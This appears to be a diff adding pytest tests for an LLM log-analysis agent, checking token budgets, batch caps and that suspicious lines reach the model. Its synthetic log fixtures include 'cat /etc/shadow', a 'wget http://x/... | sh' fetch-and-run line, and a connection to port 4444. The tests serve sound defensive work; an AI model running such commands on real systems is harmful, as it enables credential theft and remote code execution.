@@ -0,0 +1,64 @@
+from app.agents import log_analyst
+from app.agents.log_analyst import LogAnalysis, RARE_LINES_ONLY, analyze_large_logs
+from app.log_preprocessing import LogDigest, clip_window, iter_lines
+from app.tokens import count_tokens
+
+
+def noisy_log(blocks, suspicious):
+    """`blocks` blocks of filler, each followed by the suspicious line of `suspicious(i)`."""
+    lines = []
+    for i in range(blocks):
+        lines += [f"app[{i}]: request {j} served in {j % 7}ms for tenant t{i % 13}" for j in range(20)]
+        lines.append(suspicious(i))
+    return "\n".join(lines)
+
+
+def test_top_windows_keeps_the_most_severe():
+    logs = noisy_log(30, lambda i: f"sshd: user=u{i} cat /etc/shadow" if i == 17 else f"login failed for u{i}")
+    digest = LogDigest(failure_threshold=1)
+    windows = digest.top_windows(iter_lines(logs), token_budget=150, window_budget=150)
+    assert any("/etc/shadow" in window for window in windows)
+    assert digest.dropped_windows > 0
+    assert "left out of the analysis" in digest.overview()
+
+
+class CountingChain:
+    def __init__(self):
+        self.calls = []
+
+    def invoke(self, inputs):
+        self.calls.append(inputs)
+        return LogAnalysis(summary="x" * 10000, contains_anomaly=False)
+
+
+def test_large_log_map_calls_and_reduce_prompt_are_capped(monkeypatch):
+    chain = CountingChain()
+    monkeypatch.setattr(log_analyst, "LOG_TOKEN_BUDGET", 200)
+    monkeypatch.setattr(log_analyst, "LOG_MAX_BATCHES", 3)
+    monkeypatch.setattr(log_analyst, "get_log_analyst_chain", lambda: chain)
+    monkeypatch.setattr(log_analyst, "get_log_reduce_chain", lambda: chain)
+
+    analyze_large_logs(noisy_log(200, lambda i: f"wget http://x/{i}.sh | sh"))
+    *maps, reduce = chain.calls
+    assert len(maps) == 3
+    assert len(reduce["analyses"]) < 200 * 4
+
+
+def test_large_log_without_hits_is_still_reviewed(monkeypatch):
+    chain = CountingChain()
+    monkeypatch.setattr(log_analyst, "get_log_analyst_chain", lambda: chain)
+    logs = noisy_log(50, lambda i: "conn from 203.0.113.66:4444 to 10.0.0.5:22" if i == 30 else f"app: heartbeat {i}")
+    result = analyze_large_logs(logs)
+
+    # No detector matches an outbound connection, but the LLM still sees it
+    assert len(chain.calls) == 1
+    assert "203.0.113.66:4444" in chain.calls[0]["logs"]
+    assert count_tokens(chain.calls[0]["logs"]) <= log_analyst.LOG_TOKEN_BUDGET
+    assert result.summary.startswith(RARE_LINES_ONLY)
+
+
+def test_clipped_windows_fit_the_budget_on_token_dense_text():
+    dense = " ".join(f"{i:x}" for i in range(5000))
+    window, tokens = clip_window(dense, 100)
+    assert tokens <= 100 and count_tokens(window) == tokens
+    assert dense.startswith(window)